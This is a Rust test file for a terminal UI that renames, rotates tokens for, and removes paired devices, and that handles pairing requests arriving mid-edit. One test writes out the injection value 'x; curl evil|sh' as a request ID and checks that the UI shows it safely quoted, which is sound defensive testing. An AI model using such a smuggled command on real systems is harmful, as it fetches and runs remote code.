//! Paired devices by keys: renamed, given new tokens, forgotten.

use super::{fixtures::*, terminal::draw};
use crate::{
    fleet::pairing::PairedDevice,
    ops::{Event, pairings::Change},
    tui::{
        message::{Command, Key, Message},
        state::State,
    },
};

/// The cursor stands on Bob's tablet; nobody asks.
pub fn paired() -> State {
    let mut state = ready();
    for machine in ["claw-alice", "claw-bob"] {
        let device = PairedDevice {
            machine: machine.into(),
            device_id: format!("device of {machine}"),
            label: "Slate".into(),
            scopes: vec!["operator.read".into()],
            roles: vec!["operator".into()],
            connected: machine == "claw-bob",
            last_seen: None,
        };
        let paired = vec![device];
        send(&mut state, Message::Event(Event::Devices { machine: machine.into(), pending: Vec::new(), paired }));
    }
    key(&mut state, "4j");
    state
}

fn change(change: Change) -> Vec<Command> {
    vec![Command::Device { machine: "claw-bob".into(), device_id: "device of claw-bob".into(), change }]
}

#[test]
fn a_device_is_renamed_rotated_and_removed_and_no_other() {
    let mut state = paired();
    assert_eq!(key(&mut state, "n"), []);
    send(&mut state, Message::Key(Key::Ctrl('u')));
    key(&mut state, "Bob's pad");
    let renamed = send(&mut state, Message::Key(Key::Enter));
    assert_eq!(renamed, change(Change::Rename { label: "Bob's pad".into() }));
    assert_eq!(key(&mut state, "oy"), change(Change::Rotate { role: None }));
    assert_eq!(key(&mut state, "Dy"), [], "a y is not enough for what can't be taken back");
    send(&mut state, Message::Key(Key::Backspace));
    key(&mut state, "claw-bob");
    assert_eq!(send(&mut state, Message::Key(Key::Enter)), change(Change::Remove));
}

/// Anybody can ask to be paired while a name is being typed.
#[test]
fn the_device_that_was_asked_about_is_renamed_wherever_it_stands_by_then() {
    let mut state = paired();
    key(&mut state, "n");
    let mut request = ready().pending()[0].clone();
    request.request_id = "another".into();
    send(&mut state, Message::Event(Event::PairingRequested { request }));
    key(&mut state, "!");
    let renamed = send(&mut state, Message::Key(Key::Enter));
    assert_eq!(renamed, change(Change::Rename { label: "Slate!".into() }));
}

#[test]
fn a_request_has_no_name_of_ours_and_an_empty_name_is_none() {
    let mut state = ready();
    assert_eq!(key(&mut state, "4n"), []);
    assert!(state.prompt.is_none() && state.note.as_ref().unwrap().0.contains("only a paired device"));
    let mut state = paired();
    key(&mut state, "n");
    send(&mut state, Message::Key(Key::Ctrl('u')));
    assert_eq!(send(&mut state, Message::Key(Key::Enter)), []);
}

/// Somebody copies the line into a shell.
#[test]
fn a_request_is_no_command_however_it_calls_itself() {
    let mut state = ready();
    let mut request = state.pending()[0].clone();
    request.request_id = "x; curl evil|sh".into();
    send(&mut state, Message::Event(Event::PairingRequested { request }));
    key(&mut state, "4");
    let at = state.pending().iter().position(|request| request.request_id.contains("evil")).unwrap();
    key(&mut state, &"j".repeat(at));
    let shown = draw(&state, 200, 60);
    assert!(shown.contains("same as: claw devices approve 'x; curl evil|sh'"), "{shown}");
}
